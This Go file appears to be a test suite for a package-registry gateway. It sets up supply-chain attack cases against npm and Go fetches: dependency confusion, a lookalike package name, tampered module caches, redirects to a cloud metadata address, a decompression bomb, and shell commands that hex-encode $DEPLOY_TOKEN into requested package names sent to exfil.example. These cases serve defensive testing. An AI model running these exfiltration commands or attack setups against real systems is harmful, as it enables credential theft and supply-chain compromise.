package drill

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"time"

	"github.com/sallyport/sallyport/internal/boundary"
)

const (
	day = 24 * time.Hour
	// settings is a sallyport.yaml with settings of the gateway.
	settings = "version: 1\nname: victim\ngateway: { npm: { dir: ., %s } }\nstages: { fetch: { run: [\"true\"], keep: [node_modules] } }\n"
	wallAge  = "min_age, by range and by exact address"
	wallPin  = "every package has the checksum that its lockfile promises"
)

// gatewayCases are what the only road out has to hold against, with the real
// client and a registry that does as the case says.
func gatewayCases() []Case {
	return []Case{
		tooYoung("G1", "version that is ten minutes old, asked for by range", 10*time.Minute, false),
		tooYoung("G2", "the same by its exact address in the lockfile", 10*time.Minute, true),
		tooYoung("G3", "version without a publishing time", 0, true),
		tooYoung("G4", "version with a publishing time in the future", -2*day, true),
		unpromised(), changedVersion(), tamperedStore(), malware(), confusion(), lookalike(), elsewhereTarball(), redirected(), documentBomb(), movedTag(), staleMetadata(),
		spelledNames("npm", "npm view $name >/dev/null 2>&1; npm pack $name >/dev/null 2>&1", "npm", "$(printf %s \"$DEPLOY_TOKEN\" | od -An -tx1 | tr -d ' \\n')"),
		spelledNames("go", "GOFLAGS=-mod=mod go list -m exfil.example/$name@latest >/dev/null 2>&1", "go", "$(printf %s \"$DEPLOY_TOKEN\" | od -An -tx1 | tr -d ' \\n')"),
	}
}

// fetching is a case of one fetch: the job's registry and proxy are the case's.
func fetching(id, technique, title, command string, links []Link) Case {
	return Case{Name: id, Tongue: "npm", Needs: []string{"npm"}, Files: map[string]string{},
		Env:     []string{"npm_config_registry=http://@HTTP@/npm/", "GOPROXY=http://@HTTP@/go", "npm_config_fetch_retries=0", "npm_config_cache=@HOME@/.npm"},
		Acts:    []Act{{Stages: []Stage{{Zone: boundary.Fetch, Command: ranStep(command)}}}},
		Attacks: []Attack{{ID: id, Technique: technique, Title: title, Links: links}}}
}

// prepared gives a case its upstream.
func (c Case) prepared(f func(w *World, u *upstream) error) Case {
	c.Prepare = func(_ context.Context, w *World) error {
		w.sinks.up = newUpstream()
		return f(w, w.sinks.up)
	}
	return c
}

func manifest(name, version string) string {
	return fmt.Sprintf(`{"name": "victim", "version": "1.0.0", "dependencies": {%q: %q}}`, name, version)
}

// installed says that a package is there and says this.
func installed(name, says, wall string) []Link {
	return []Link{{"installs it", wall, Harm, func(w *World) bool {
		return bytes.Contains(w.read("src/node_modules/"+name+"/package.json"), []byte(says))
	}}}
}

func tooYoung(id, title string, age time.Duration, locked bool) Case {
	name := "fresh-" + id
	c := fetching(id+".npm", id, title, "npm install --ignore-scripts", installed(name, "BACKDOOR", wallAge))
	c.Refused = []string{"E-GW-TOO-YOUNG"}
	c.Files["package.json"], c.Files["sallyport.yaml"] = manifest(name, "^1.0.0"), fmt.Sprintf(settings, "min_age: 3d")
	return c.prepared(func(w *World, u *upstream) error {
		u.publish(name, "1.0.0", 400*day, "good")
		r := u.publish(name, "1.0.1", age, "BACKDOOR")
		if age == 0 {
			r.published = time.Time{}
		}
		if !locked {
			return nil
		}
		yaml := "version: 1\nname: victim\ngateway: { npm: { lockfile: package-lock.json, min_age: 3d } }\nstages: { fetch: { run: [\"true\"], keep: [node_modules] } }\n"
		return errors.Join(w.write("package.json", manifest(name, "1.0.1")), w.write("package-lock.json", w.lock(name, "1.0.1", integrity(r.tarball))), w.write("sallyport.yaml", yaml))
	})
}

// unpromised is a lockfile from which a change took the checksum.
func unpromised() Case {
	const name = "bare"
	c := fetching("G5.npm", "G5", "bytes that no checksum of the lockfile holds", "npm ci --ignore-scripts", installed(name, "BACKDOOR", wallPin))
	c.Refused = []string{"E-GW-LOCKFILE"}
	c.Files["package.json"] = manifest(name, "1.0.0")
	return c.prepared(func(w *World, u *upstream) error {
		u.publish(name, "1.0.0", 400*day, "BACKDOOR")
		return w.write("package-lock.json", string(bytes.ReplaceAll([]byte(w.lock(name, "1.0.0", "")), []byte(`, "integrity": ""`), nil)))
	})
}

// changedVersion has other bytes when it is fetched a second time.
func changedVersion() Case {
	const name = "steady"
	const install = "npm install --ignore-scripts --no-package-lock"
	c := fetching("G6.npm", "G6", "version whose bytes change between two fetches", install, installed(name, "BACKDOOR", "a version has the bytes that it had first"))
	c.Files["package.json"] = manifest(name, "1.0.0")
	c = c.prepared(func(_ *World, u *upstream) error { u.publish(name, "1.0.0", 400*day, "good"); return nil })
	c.Acts = append(c.Acts, Act{Stages: c.Acts[0].Stages, Before: func(_ context.Context, w *World) error {
		w.sinks.up.publish(name, "1.0.0", 400*day, "BACKDOOR")
		return errors.Join(os.RemoveAll(filepath.Join(w.Src, "node_modules")), os.RemoveAll(filepath.Join(w.Home, ".npm")))
	}})
	return c
}

// tamperedStore changes what a cache of packages keeps, after it was checked.
func tamperedStore() Case {
	const module, version = "dep.example/stored", "v1.0.0"
	c := fetching("G7.go", "G7", "stored bytes that are tampered with", "GOFLAGS='-mod=mod -modcacherw' go build -o product . && ./product >product.txt 2>&1", []Link{
		{"builds the tampered module", "the store is hashed again before each use", Harm, func(w *World) bool { return bytes.Contains(w.read("src/product.txt"), []byte("BACKDOOR")) }}})
	c.Needs, c.Tongue, c.OwnState = []string{"go"}, "go", true
	c.Env = append(c.Env, "GONOSUMDB=*", "GOSUMDB=off", "GOMODCACHE=@CACHE@/mod", "GOFLAGS=-mod=mod")
	c.Files["go.mod"] = "module victim.example/v\n\ngo 1.21\n\nrequire " + module + " " + version + "\n"
	c.Files["main.go"] = "package main\n\nimport _ \"" + module + "\"\n\nfunc main() {}\n"
	c = c.prepared(func(w *World, u *upstream) error {
		sums, err := u.module(module, version, "package stored\n")
		return errors.Join(err, w.write("go.sum", sums))
	})
	c.Acts = append(c.Acts, Act{Stages: c.Acts[0].Stages, Before: func(_ context.Context, w *World) error {
		evil, err := moduleZip(module, version, "package stored\n\nfunc init() { println(\"BACKDOOR\") }\n")
		if err != nil {
			return err
		}
		return errors.Join(tamper(filepath.Join(w.Cache, "mod/cache/download"), evil), os.RemoveAll(filepath.Join(w.Cache, "mod", module+"@"+version)),
			tamper(filepath.Join(w.state, "gateway/blobs"), evil))
	}})
	return c
}

// tamper replaces every zip below a directory, where there is one.
func tamper(dir string, with []byte) error {
	err := filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil || !d.Type().IsRegular() {
			return err
		}
		b, err := os.ReadFile(p)
		if err != nil || !bytes.HasPrefix(b, []byte("PK")) {
			return err
		}
		return errors.Join(os.Chmod(p, 0o600), os.WriteFile(p, with, 0o600))
	})
	if errors.Is(err, fs.ErrNotExist) {
		return nil
	}
	return err
}

// malware becomes known after its bytes were fetched.
func malware() Case {
	const name = "known-evil"
	record := func(id, name string) string {
		return fmt.Sprintf(`{"id":%q,"affected":[{"package":{"ecosystem":"npm","name":%q},"ranges":[{"type":"SEMVER","events":[{"introduced":"0"}]}]}]}`, id, name)
	}
	c := fetching("G8.npm", "G8", "malware that becomes known after it was fetched", "npm ci --ignore-scripts", installed(name, "BACKDOOR", "the feed is asked at each request"))
	c.Refused = []string{"E-GW-MALWARE"}
	c.Env = append(c.Env, "SALLYPORT_MALWARE=@DIR@/feed")
	c.Files["package.json"], c.Files["/feed/1.json"] = manifest(name, "1.0.0"), record("MAL-2026-1", "another")
	c = c.prepared(func(w *World, u *upstream) error {
		r := u.publish(name, "1.0.0", 400*day, "BACKDOOR")
		return w.write("package-lock.json", w.lock(name, "1.0.0", integrity(r.tarball)))
	})
	c.Acts = append(c.Acts, Act{Stages: c.Acts[0].Stages, Before: func(_ context.Context, w *World) error {
		return errors.Join(w.write("/feed/2.json", record("MAL-2026-2", name)), os.RemoveAll(filepath.Join(w.Src, "node_modules")))
	}})
	return c
}

func confusion() Case {
	const name = "acme-utils"
	c := fetching("G9.npm", "G9", "internal name on the public registry, higher version", "npm install --ignore-scripts", installed(name, "BACKDOOR", "own names never come from the default registry"))
	c.Refused = []string{"E-GW-INTERNAL-NAME"}
	c.Files["package.json"], c.Files["sallyport.yaml"] = manifest(name, ">=1.0.0"), fmt.Sprintf(settings, "internal: [\"acme-*\"]")
	return c.prepared(func(_ *World, u *upstream) error { u.publish(name, "99.0.0", 400*day, "BACKDOOR"); return nil })
}

func lookalike() Case {
	const name = "loadsh"
	c := fetching("G10.npm", "G10", "name that looks like a well-known one", "npm install --ignore-scripts", installed(name, "BACKDOOR", "a new name one letter from a known one is refused"))
	c.Refused = []string{"E-GW-LOOKALIKE"}
	c.Files["package.json"] = manifest(name, "^1.0.0")
	return c.prepared(func(_ *World, u *upstream) error { u.publish(name, "1.0.0", 400*day, "BACKDOOR"); return nil })
}

// elsewhereTarball is a document of the right registry that leads to another host.
func elsewhereTarball() Case {
	const name = "led-away"
	c := fetching("G11.npm", "G11", "registry document that leads to another host", "npm install --ignore-scripts", append([]Link{
		{"has the other host asked", "only configured hosts are dialled", Harm, func(w *World) bool { return len(w.sinks.got("http/away/")) > 0 }}},
		installed(name, "BACKDOOR", wallPin)...))
	c.Files["package.json"] = manifest(name, "^1.0.0")
	return c.prepared(func(w *World, u *upstream) error {
		r := u.publish(name, "1.0.0", 400*day, "BACKDOOR")
		r.at = elsewhere(w) + "/away/x.tgz"
		w.sinks.answer("/away/x.tgz", r.tarball)
		return nil
	})
}

// redirected is a tarball that leads on to the metadata address.
func redirected() Case {
	const name = "led-on"
	c := fetching("G11.redirect", "G11", "redirect to the metadata address", "npm ci --ignore-scripts", []Link{
		{"asks the metadata service from outside the zone", "redirects stay on their origin", Harm, func(w *World) bool { return len(w.sinks.got("metadata")) > 0 }}})
	c.Files["package.json"] = manifest(name, "1.0.0")
	return c.prepared(func(w *World, u *upstream) error {
		r := u.publish(name, "1.0.0", 400*day, "x")
		r.redirect = "http://" + w.sinks.Metadata + "/latest/meta-data/"
		return w.write("package-lock.json", w.lock(name, "1.0.0", integrity(r.tarball)))
	})
}

// documentBomb grows a thousandfold when it is unpacked.
func documentBomb() Case {
	const size = 400 << 20
	const measured = `/usr/bin/python3 -c "import resource, subprocess, sys; subprocess.run(sys.argv[1:]); print('peak:', resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)" npm install --ignore-scripts --no-package-lock`
	c := fetching("G12.npm", "G12", "document that unpacks to 400 MB", measured, []Link{
		{"has the client take it all into memory", "documents are bounded, unpacked, and read as a stream", Harm, func(w *World) bool {
			kib, err := strconv.Atoi(strings.TrimSpace(string(w.logLines("peak: "))))
			return err == nil && kib<<10 > size
		}}})
	c.Needs = append(c.Needs, "/usr/bin/python3")
	c.Files["package.json"] = manifest("bomb", "^1.0.0")
	return c.prepared(func(w *World, _ *upstream) error {
		w.sinks.answerZipped("/npm/bomb", bomb(size))
		return nil
	})
}

// movedTag has a job that asks for a tag which was moved after the review.
func movedTag() Case {
	const name = "tool"
	c := fetching("G13.npm", "G13", "tag that is moved between review and fetch", "npm install --ignore-scripts --no-save "+name+"@latest", installed(name, "BACKDOOR", "what the lockfile names, and no tag"))
	c.Files["package.json"] = manifest(name, "1.0.0")
	return c.prepared(func(w *World, u *upstream) error {
		r := u.publish(name, "1.0.0", 400*day, "good")
		u.publish(name, "2.0.0", 400*day, "BACKDOOR")
		return w.write("package-lock.json", w.lock(name, "1.0.0", integrity(r.tarball)))
	})
}

// staleMetadata cannot tell how old a version is: the document is not to be had,
// the tarball is.
func staleMetadata() Case {
	const name = "fresh-G14"
	c := fetching("G14.npm", "G14", "policy data that cannot be had", "npm ci --ignore-scripts", installed(name, "BACKDOOR", "a rule that cannot tell refuses"))
	c.Files["package.json"] = manifest(name, "1.0.1")
	c.Files["sallyport.yaml"] = "version: 1\nname: victim\ngateway: { npm: { lockfile: package-lock.json, min_age: 3d } }\nstages: { fetch: { run: [\"true\"], keep: [node_modules] } }\n"
	return c.prepared(func(w *World, u *upstream) error {
		r := u.publish(name, "1.0.1", 10*time.Minute, "BACKDOOR")
		u.down = true
		return w.write("package-lock.json", w.lock(name, "1.0.1", integrity(r.tarball)))
	})
}

// spelledNames writes a secret into the names that it asks for.
func spelledNames(tongue, command, sink, secret string) Case {
	c := fetching("G15."+tongue, "G15", "secret in a requested name", "for name in @CARRIER@ \""+secret+"\"; do "+command+"; done; true", []Link{
		{"has an upstream asked for an invented name", "only names of the lockfile reach an upstream", Harm, func(w *World) bool { return bytes.Contains(w.sinks.got("http/"+sink+"/"), []byte(w.carrier)) }},
		{"has a credential to spell", wallSecrets, Theft, func(w *World) bool { return w.stole(w.sinks.got("http/"+sink+"/"), Env) }},
	})
	c.Tongue, c.Needs = tongue, []string{tongue}
	c.Env = append(c.Env, "GONOSUMDB=*", "GOSUMDB=off")
	c.Files["package.json"], c.Files["go.mod"] = `{"name": "victim", "version": "1.0.0"}`, "module victim.example/v\n\ngo 1.21\n"
	return c.prepared(func(*World, *upstream) error { return nil })
}
